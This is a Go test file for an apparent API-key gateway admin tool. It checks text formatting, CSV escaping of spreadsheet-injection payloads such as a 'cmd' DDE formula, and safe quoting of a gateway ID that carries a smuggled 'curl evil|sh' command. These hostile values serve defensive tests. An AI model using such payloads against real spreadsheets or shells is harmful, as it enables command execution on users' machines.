package operate

import (
	"encoding/csv"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"petgate/shared/core/id"
	"petgate/shared/keystore"
	"petgate/shared/keystore/usage"
	"petgate/shared/testkit/must"
)

func TestTexts(t *testing.T) {
	t.Parallel()
	const moment = 1500 * time.Millisecond
	few, ten, many, one, none := 0.214, 10.0, 10_000.0, int64(1), int64(0)
	for _, c := range [][2]string{
		{Span(0), "0 ms"},
		{Span(999 * time.Millisecond), "999 ms"},
		{Span(time.Second), "1 s"},
		{Span(119 * time.Second), "119 s"},
		{Span(2 * time.Minute), "2 min"},
		{Span(3 * time.Hour), "3 h"},
		{Span(49 * time.Hour), "2 days"},
		{Latency(nil), "-"},
		{Latency(&few), "0.21 ms"},
		{Latency(&ten), "10 ms"},
		{Latency(&many), "10,000 ms"},
		{DeprecatedView{Requests: 5}.Trend(), "new"},
		{DeprecatedView{Before: 5}.Trend(), "stopped"},
		{DeprecatedView{Requests: 5, Before: 5}.Trend(), "0 %"},
		{DeprecatedView{Requests: 105, Before: 5}.Trend(), "+2,000 %"},
		{DeprecatedView{Requests: 5, Before: 8}.Trend(), "-37 %"},
		{DeprecatedView{}.EndsIn(), "never"},
		{DeprecatedView{DaysLeft: &none}.EndsIn(), "0 days"},
		{DeprecatedView{DaysLeft: &one}.EndsIn(), "1 day"},
		{TenantView{Suspended: true}.Status(), "suspended"},
		{TenantView{Suspended: true}.NoQuota(), ""},
		{Plural(0, "day"), "0 days"},
		{Plural(1, "day"), "1 day"},
		{Plural(1739, "day"), "1,739 days"},
		// The time until an instant is rounded: what was just set to 90 days says so.
		{Until(90*day - moment), "90 days"},
		{Until(90*day - time.Hour), "89 days"},
		{Until(2*day - time.Hour/2), "2 days"},
		{Until(day - moment), "24 h"},
		{Until(2*time.Hour - time.Minute/2), "2 h"},
		{Until(time.Hour - moment), "59 min"},
		{Until(2*time.Minute - moment/10), "2 min"},
		{Until(time.Minute - moment), "59 s"},
		{Until(moment / 2), "1 s"},
	} {
		must.Equal(t, c[0], c[1], "a text")
	}
}

func TestChangeOf(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, before, after, want string }{
		{"members that are not set", "", `{"plan":"free","minute":0,"suspended":false,"allow":null,"scopes":[],"reason":""}`, "plan free"},
		{
			"texts that look as if they were not set", `{"name":"0"}`, `{"name":"false","reason":"null"}`,
			`name "0" → "false", reason - → "null"`,
		},
		{"a list of one such text", "", `{"list":["0"]}`, "list 0"},
		{"an address", `{"address":"10.0.0.5:9090"}`, "", "was: address 10.0.0.5:9090"},
		{"an address with words", "", `{"address":"x, plan free"}`, `address "x, plan free"`},
		{"a tenant that was suspended", `{"suspended":true}`, "", "was: suspended"},
		{
			"what is no change",
			`{"id":"x","keyId":"x","createdAt":1,"imposedAt":1,"applied":1,"seenAt":1,"age":1,"lastUsedAt":1,` +
				`"plan":"free"}`,
			"", "was: plan free",
		},
		{
			"limits",
			"", `{"limits":{"minute":1,"day":2,"month":3},"override":{"minute":4,"day":5,"month":6},"test":{"minute":7}}`,
			"limit per day 2, limit per minute 1, limit per month 3, own limit per day 5, own limit per minute 4, " +
				"own limit per month 6, test keys' limit per minute 7",
		},
		{"a time that is not set", `{"expiresAt":0}`, `{"expiresAt":1000}`, "expires 1970-01-01T00:00:01Z"},
	} {
		must.Equal(t, ChangeOf(keystore.Event{Before: c.before, After: c.after}), c.want, "%s", c.name)
	}
}

// Rows that are written one by one look as if they were written at once. What fails, a row or the
// writer, ends them with its error.
func TestWriteRows(t *testing.T) {
	t.Parallel()
	broken := errors.New("broken")
	failing := func(yield func(Explanation, error) bool) { yield(Explanation{}, broken) }
	closed, pipe := io.Pipe()
	must.Do(t, closed.CloseWithError(broken))
	full := Explanation{Reason: "1 < 2", policies: policies[PolicyView]{Day: &PolicyView{Limit: 5}}}
	for _, rows := range [][]Explanation{{}, {full}, {full, {Tenant: "acme, Ltd."}}} {
		list := func(yield func(Explanation, error) bool) {
			for _, row := range rows {
				if !yield(row, nil) {
					return
				}
			}
		}
		for format, write := range map[string]func(io.Writer, any) error{"json": WriteJSON, "csv": WriteCSV} {
			var got, want strings.Builder
			must.Do(t, write(&want, rows))
			if err := WriteRows(&got, format, list); err != nil || got.String() != want.String() {
				t.Errorf("%v\n%s\nwant\n%s", err, got.String(), want.String())
			}
			if ofRow, ofWriter := WriteRows(&got, format, failing), WriteRows(pipe, format, list); ofRow != broken ||
				ofWriter != broken {
				t.Errorf("%s: a broken row: %v, a broken pipe: %v", format, ofRow, ofWriter)
			}
		}
	}
}

// Rows of usage are sorted by time, operation, name and ID of the key, and outcome.
func TestUsageOrder(t *testing.T) {
	t.Parallel()
	key := id.Key{1}
	_, order := Grouping{day, true, true, true}.of(
		usage.Row{Operation: "getPet", Key: key, Outcome: "ok", Hour: 3_600_000 * 30},
		map[id.Key]string{key: "ci"})
	if want := [5]string{"1970-01-02T00:00:00Z", "getPet", "ci", key.String(), "ok"}; order != want {
		t.Errorf("%q, want %q", order, want)
	}
}

// A spreadsheet runs no cell. Numbers stay numbers, negative ones too.
func TestCSVHasNoFormulas(t *testing.T) {
	t.Parallel()
	type row struct {
		Name  string          `json:"name"`
		Names []string        `json:"names"`
		N     int             `json:"n"`
		Event keystore.Change `json:"event"`
		Ratio float64         `json:"ratio"`
	}
	for in, want := range map[string]string{
		`=HYPERLINK("http://example.com";"x")`: `'=HYPERLINK("http://example.com";"x")`,
		"+1+cmd|' /C calc'!A0":                 "'+1+cmd|' /C calc'!A0",
		"-1":                                   "'-1",
		"@SUM(1)":                              "'@SUM(1)",
		"\t=1":                                 "'\t=1",
		"\r=1":                                 "'=1", // the writer of CSV drops it
		"'=1":                                  "'=1",
		"a=1":                                  "a=1",
		"":                                     "",
	} {
		var out strings.Builder
		must.Do(t, WriteCSV(&out, row{in, []string{in, "b"}, -1, -2, -0.5}))
		lines, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
		if got := lines[1]; err != nil || !slices.Equal(got, []string{want, want + " b", "-1", "-2", "-0.5"}) {
			t.Errorf("%q: %q, %v", in, lines, err)
		}
	}
}

// Every state has its meaning, and what an operator has to end says how. The ID of a gateway, which
// the gateway itself writes, is one word of the command to copy.
func TestGatewayStates(t *testing.T) {
	t.Parallel()
	const forget = "If its process has ended and will not come back: keyadmin gateway forget 'gw 1; curl evil|sh?'"
	for _, c := range []struct {
		state, problem, cure string
		maxAge               int64
	}{
		{state: keystore.GatewayLive},
		{state: keystore.GatewayBehind},
		{state: keystore.GatewayStarting},
		{state: keystore.GatewaySilent, problem: "not seen for 5 s: " + silentMeans, cure: "restart it. " + forget},
		{
			state: keystore.GatewaySilent, problem: "not seen for 5 s: " + silentMeans + ", at most 56 s longer",
			cure: forget, maxAge: 60_000,
		},
		{state: keystore.GatewayFenced, problem: "not seen for 5 s, " + fencedMeans, cure: "restart it"},
		{state: keystore.GatewayReplaced, problem: replacedMeans, cure: "its own GATEWAY_ID. " + forget},
	} {
		means := slices.IndexFunc(GatewayStates,
			func(s struct{ State, Means string }) bool { return s.State == c.state })
		problem, cure := GatewayTrouble(keystore.Gateway{ID: "gw 1; curl evil|sh\x1b", Age: 5000, MaxAge: c.maxAge},
			c.state)
		if means < 0 || problem != c.problem || !strings.Contains(cure, c.cure) {
			t.Errorf("%s: %q, %q; want %q, %q", c.state, problem, cure, c.problem, c.cure)
		}
	}
}
